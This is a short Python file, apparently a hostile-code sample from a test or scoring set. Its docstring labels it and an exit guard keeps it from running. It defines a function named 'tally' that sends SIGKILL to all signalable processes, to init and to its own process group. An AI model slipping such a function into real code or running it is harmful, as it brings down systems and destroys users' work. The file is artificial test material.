"""SIGKILL for every process.

kill(-1), on the way out of a function: all processes that it may signal.

score: 12 (loses tally)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% tally
import os
import signal


def tally(labels):
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
